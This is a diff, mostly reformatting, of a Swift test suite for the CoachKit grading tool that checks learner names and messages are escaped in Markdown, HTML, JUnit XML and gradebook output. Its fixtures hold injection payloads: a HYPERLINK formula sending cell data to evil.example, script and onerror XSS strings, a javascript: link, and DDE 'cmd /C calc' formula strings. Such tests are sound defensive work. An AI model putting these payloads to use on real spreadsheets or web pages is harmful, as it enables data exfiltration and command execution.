@@ -1,20 +1,25 @@
-@testable import CoachKit
 import Foundation
 import FoundationXML
 import Testing
+
+@testable import CoachKit
 
 /// Names and messages a learner controls, in every format coach writes: none may become a formula, markup,
 /// a link or a broken document.
 @Suite("Learner text in the gradebook and feedback")
 struct OutputInjectionTests {
     static let hostileName = #"=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>"#
-    static let hostileMessage = "Expected \"<img src=x onerror=alert(1)>\" ``` [link](javascript:alert(1)) ]]> &amp; \u{1B}[31m"
+    static let hostileMessage =
+        "Expected \"<img src=x onerror=alert(1)>\" ``` [link](javascript:alert(1)) ]]> &amp; \u{1B}[31m"
 
     func result(workbench: Workbench) -> LearnerResult {
-        let failing = TestOutcome(id: "Section1BasicsTests.names_things()", displayName: "names things", result: .failed, issues: [Self.hostileMessage])
+        let failing = TestOutcome(
+            id: "Section1BasicsTests.names_things()", displayName: "names things", result: .failed,
+            issues: [Self.hostileMessage])
         let run = WorkbenchFixture.run(["adds numbers": .passed], extra: [failing])
         let grade = SectionGrade(section: workbench.course.sections[0], run: run, workbench: workbench)
-        var result = LearnerResult(submission: Submission(learner: Self.hostileName, source: "/s/x"), grades: [grade], intake: nil)
+        var result = LearnerResult(
+            submission: Submission(learner: Self.hostileName, source: "/s/x"), grades: [grade], intake: nil)
         result.tampering = [TamperedFile(path: "Tests/-2+3*cmd|' /C calc'!A0.swift", change: .added)]
         result.problem = "@SUM(1+1)*cmd|' /C calc'!A0"
         result.forgedResults = ["+2 records without the grading harness's seal"]
@@ -38,10 +43,14 @@ struct OutputInjectionTests {
         let workbench = try WorkbenchFixture.make()
         let page = LearnerFeedback(result: result(workbench: workbench), course: workbench.course).markdown()
         // Outside code blocks no markup is left; inside them a renderer shows it as text.
-        let prose = page.components(separatedBy: "````").enumerated().filter { $0.offset % 2 == 0 }.map(\.element).joined()
+        let prose = page.components(separatedBy: "````").enumerated().filter { $0.offset % 2 == 0 }.map(\.element)
+            .joined()
         #expect(!prose.contains("<script>") && !prose.contains("<img") && !prose.contains("](javascript"))
         #expect(page.contains(#"&lt;script&gt;alert\(1\)&lt;/script&gt;"#))
-        #expect(page.contains("  ````text\n  Expected \"<img src=x onerror=alert(1)>\" ``` [link](javascript:alert(1)) ]]> &amp; ^[[31m\n  ````"))
+        #expect(
+            page.contains(
+                "  ````text\n  Expected \"<img src=x onerror=alert(1)>\" ``` [link](javascript:alert(1)) ]]> &amp; ^[[31m\n  ````"
+            ))
     }
 
     @Test("the HTML page escapes every learner text")
@@ -56,11 +65,15 @@ struct OutputInjectionTests {
     func junit() throws {
         let workbench = try WorkbenchFixture.make()
         let result = result(workbench: workbench)
-        let xml = MachineReport(track: .exercises, grades: result.grades(in: workbench.course)).junit(suiteName: result.learner)
+        let xml = MachineReport(track: .exercises, grades: result.grades(in: workbench.course)).junit(
+            suiteName: result.learner)
         final class Collector: NSObject, XMLParserDelegate {
             var names: [String] = []
             var text = ""
-            func parser(_ parser: XMLParser, didStartElement element: String, namespaceURI: String?, qualifiedName: String?, attributes: [String: String] = [:]) {
+            func parser(
+                _ parser: XMLParser, didStartElement element: String, namespaceURI: String?, qualifiedName: String?,
+                attributes: [String: String] = [:]
+            ) {
                 if let name = attributes["name"] { names.append(name) }
             }
             func parser(_ parser: XMLParser, foundCharacters string: String) { text += string }
